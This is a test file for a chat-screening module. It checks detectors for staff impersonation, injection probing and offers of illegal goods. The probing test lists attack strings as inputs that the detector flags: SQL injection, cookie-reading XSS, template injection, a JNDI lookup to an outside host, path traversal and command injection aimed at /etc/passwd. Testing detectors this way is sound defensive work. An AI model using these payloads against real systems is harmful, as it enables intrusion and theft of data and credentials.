import { describe, expect, it } from 'vitest';
import { illegalDetector } from '../../src/screening/detectors/illegal.js';
import { impersonationDetector } from '../../src/screening/detectors/impersonation.js';
import { probingDetector } from '../../src/screening/detectors/probing.js';
import { ids, VISITOR } from './helpers.js';

describe('impersonation', () => {
  it('flags visitors who claim to be staff, in words or in their name', () => {
    expect(ids(impersonationDetector, 'Hi, this is Sam from the support team, please confirm')).toEqual([
      'staff_claim',
    ]);
    expect(ids(impersonationDetector, 'I am an administrator of this site')).toEqual(['staff_claim']);
    expect(ids(impersonationDetector, 'hello', { ...VISITOR, senderName: 'Ѕuрр0rt Team' })).toEqual(['staff_claim']);
    expect(ids(impersonationDetector, 'hello', { ...VISITOR, senderName: 'ACME billing' })).toEqual(['staff_claim']);
  });

  it('leaves agents and customers who mention support alone', () => {
    expect(ids(impersonationDetector, 'this is Alex from support', { ...VISITOR, role: 'agent' })).toEqual([]);
    expect(ids(impersonationDetector, 'I talked to someone from support yesterday')).toEqual([]);
    expect(ids(impersonationDetector, "I'm the admin of our workspace and can't add users")).toEqual([]);
    expect(ids(impersonationDetector, 'hi', { ...VISITOR, senderName: 'Ana García' })).toEqual([]);
  });
});

describe('probing', () => {
  it.each([
    "' OR '1'='1",
    "admin'--",
    '1 UNION SELECT username, password FROM users',
    "'; DROP TABLE users; --",
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is this literal string
    '${jndi:ldap://x.io/a}',
    '../../../../etc/passwd',
    '; cat /etc/passwd',
  ])('flags %s', (text) => {
    expect(ids(probingDetector, text)).toEqual(['injection']);
  });

  it('leaves code-ish customer text alone', () => {
    expect(ids(probingDetector, "I can't open the file, it's in ../reports")).toEqual([]);
    expect(ids(probingDetector, 'price is $5 & shipping 10%')).toEqual([]);
  });
});

describe('illegal offers', () => {
  it('finds offers to trade illegal goods, not the words in passing', () => {
    expect(ids(illegalDetector, 'selling fake passports and stolen credit cards, cheap')).toEqual(['illegal_offer']);
    expect(ids(illegalDetector, 'fullz for sale, dm me')).toEqual(['illegal_offer']);
    expect(ids(illegalDetector, 'my card was stolen, please block it')).toEqual([]);
  });
});
